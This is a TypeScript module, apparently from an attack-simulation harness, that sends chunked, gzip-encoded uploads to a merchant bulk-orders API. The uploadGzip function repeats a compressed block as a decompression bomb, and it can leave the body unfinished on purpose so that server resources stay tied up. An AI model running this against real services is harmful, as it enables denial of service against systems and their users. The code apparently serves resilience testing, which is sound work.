/** Sends uploads in chunks over raw connections. */
import type { Socket } from 'node:net';
import type { RepeatedGzip } from './repeated-gzip.ts';
import { bearer, request, type Headers } from './requests.ts';
import type { Scene } from './scene.ts';

/** The target of a body, and its token. */
export interface Destination {
  readonly merchant: string;
  readonly token: string;
}

/** Sends the head of an upload with a body in chunks. */
export async function beginUpload(
  scene: Scene,
  from: string,
  { merchant, token }: Destination,
  headers: Headers = {},
): Promise<Socket | null> {
  const socket = await scene.connections.open(from);
  if (!socket) return null;
  const head = request('POST', `/v3/merchants/${merchant}/orders/bulk`, {
    ...bearer(token),
    'Content-Type': 'application/x-ndjson',
    'Transfer-Encoding': 'chunked',
    ...headers,
  });
  return (await scene.connections.write(socket, head)) ? socket : null;
}

/** One chunk of a chunked body. */
export function chunk(bytes: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`${bytes.length.toString(16)}\r\n`),
    bytes,
    Buffer.from('\r\n'),
  ]);
}

export const LAST_CHUNK = '0\r\n\r\n';

/**
 * Uploads a gzip stream. @param whole false: it never ends, so that whatever it takes stays taken.
 * Waits for the answer, the end of the connection, or the end of the attack.
 */
export async function uploadGzip(
  scene: Scene,
  from: string,
  destination: Destination,
  gzip: RepeatedGzip,
  whole = true,
): Promise<void> {
  const socket = await beginUpload(scene, from, destination, { 'Content-Encoding': 'gzip' });
  if (!socket) return;
  await scene.connections.write(socket, chunk(gzip.header));
  const block = chunk(gzip.block);
  for (let n = 0; n < gzip.times; n++) {
    if (!(await scene.connections.write(socket, block))) return;
  }
  if (whole) {
    await scene.connections.write(socket, chunk(gzip.trailer()));
    await scene.connections.write(socket, LAST_CHUNK);
  }
  await scene.connections.closed(socket);
}
